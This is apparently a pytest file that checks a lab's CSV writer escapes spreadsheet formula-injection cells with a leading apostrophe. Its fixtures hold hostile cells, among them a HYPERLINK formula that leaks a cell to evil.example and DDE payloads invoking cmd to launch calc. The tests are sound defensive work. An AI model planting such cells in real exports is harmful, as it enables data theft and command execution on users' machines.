"""Issue 24 §4: every CSV the lab writes keeps a spreadsheet from running a cell as a formula.

``sweep --out`` and notebook 06's export write through :func:`custody_lab.sweep.write_csv`: a text
cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (OWASP, "CSV
Injection") gets a leading ``'``; a plain decimal number and the number columns stay as they are.
"""

from __future__ import annotations

import argparse
import csv
import json
import re
from pathlib import Path

import pandas as pd
import pytest

from custody_lab.sweep import sweep, to_frame, write_csv
from custody_lab.whatif.sweep_command import configure, run

ROOT = Path(__file__).resolve().parents[2]
BASE = json.loads((ROOT / "data" / "cases.json").read_text(encoding="utf-8"))["cases"][0]

#: Hostile cells, by the field they sit in: each would run in a spreadsheet as it stands.
HOSTILE = [
    {"id": "=1+2"},
    {"id": "formula-title", "title": '=HYPERLINK("http://evil.example/?leak="&A1,"click")'},
    {"id": "dde", "description": "+cmd|' /C calc'!A0"},
    {"id": "at-sum", "provenance": "@SUM(1+1)*cmd|' /C calc'!A0"},
    {"id": "minus-formula", "title": "-2+3+cmd|' /C calc'!A0"},
    {"id": "\t=tab-first", "title": "\r=cr-first"},
]
#: Cells that start like a formula but are plain numbers (or no formula at all): written as they are.
HARMLESS = [{"id": "-1"}, {"id": "+2.5", "title": "a = b"}, {"id": "plain", "description": "1+1=2"}]


def _frame(rows: list[dict[str, str]]) -> pd.DataFrame:
    return to_frame([{**BASE, **row} for row in rows])


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _starts_a_formula(cell: str) -> bool:
    return bool(cell) and cell[0] in "=+-@\t\r" and not re.fullmatch(r"[+-]?\d+(?:\.\d+)?", cell)


def test_write_csv_neutralises_every_formula_cell_and_changes_nothing_else(tmp_path):
    frame = sweep(_frame(HOSTILE + HARMLESS))
    path = tmp_path / "out.csv"
    changed = write_csv(frame, path)
    rows = _cells(path)
    raw = [(r["id"], k, v) for r in rows for k, v in r.items() if _starts_a_formula(v)]
    assert raw == [], f"cells that still start a formula: {raw}"
    expected = 0
    for row, given in zip(rows, frame.to_dict("records"), strict=True):
        for key, value in given.items():
            if not isinstance(value, str):
                continue
            if _starts_a_formula(value):
                expected += 1
                assert row[key] == "'" + value, (key, value, row[key])
            else:
                assert row[key] == value, f"{key}: {value!r} was changed to {row[key]!r}"
    assert changed == expected == 7, (changed, expected)


def test_number_columns_and_plain_numbers_in_text_stay_numbers(tmp_path):
    path = tmp_path / "n.csv"
    write_csv(pd.DataFrame({"id": ["-1", "+2.5", "-1+1"], "delta": [-1, -2, 3], "ok": [True, False, True]}), path)
    assert path.read_text(encoding="utf-8").splitlines() == [
        "id,delta,ok",
        "-1,-1,True",
        "+2.5,-2,False",
        "'-1+1,3,True",
    ]


def _sweep_command(*argv: str) -> int:
    parser = argparse.ArgumentParser()
    configure(parser)
    return run(parser.parse_args(list(argv)))


def test_sweep_out_writes_formula_cells_as_text_and_says_so(tmp_path, capsys):
    grid = tmp_path / "hostile.json"
    grid.write_text(json.dumps([{**BASE, **row} for row in HOSTILE + HARMLESS]), encoding="utf-8")
    out = tmp_path / "results.csv"
    assert _sweep_command(str(grid), "--out", str(out)) == 0
    printed = capsys.readouterr().out
    assert "7 cell(s) began with =, +, -, @, a tab or a carriage return" in printed, printed
    rows = _cells(out)
    assert [r["id"] for r in rows][:2] == ["'=1+2", "formula-title"], [r["id"] for r in rows]
    raw = [(r["id"], k, v) for r in rows for k, v in r.items() if _starts_a_formula(v)]
    assert raw == [], f"sweep --out wrote formula cells: {raw}"


def test_sweep_out_says_nothing_about_formulas_when_no_cell_needed_it(tmp_path, capsys):
    out = tmp_path / "results.csv"
    assert _sweep_command(str(ROOT / "data" / "cases.json"), "--out", str(out)) == 0
    assert "began with" not in capsys.readouterr().out


def _sources() -> list[tuple[str, str]]:
    found = [(str(p.relative_to(ROOT)), p.read_text(encoding="utf-8")) for p in (ROOT / "custody_lab").rglob("*.py")]
    for nb in sorted((ROOT / "notebooks").glob("*.ipynb")):
        cells = json.loads(nb.read_text(encoding="utf-8"))["cells"]
        found += [
            (f"{nb.name} cell {i}", "".join(c["source"])) for i, c in enumerate(cells) if c["cell_type"] == "code"
        ]
    return found


def test_every_csv_the_lab_writes_goes_through_write_csv():
    sources = _sources()
    assert len(sources) > 100, len(sources)
    writers = [
        where
        for where, text in sources
        if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", text) and where != "custody_lab/whatif/io.py"
    ]
    assert writers == [], f"CSV written without write_csv: {writers}"
    export = [where for where, text in sources if where.startswith("06-") and "write_csv(" in text]
    assert export, "notebook 06's export cell does not use write_csv"


@pytest.mark.parametrize("cell", ["=1+2", "+x", "-x", "@a", "\tx", "\rx", "\r\n=1"])
def test_each_formula_start_of_owasp_is_neutralised(tmp_path, cell):
    path = tmp_path / "one.csv"
    assert write_csv(pd.DataFrame({"text": [cell]}), path) == 1
    assert _cells(path)[0]["text"] == "'" + cell
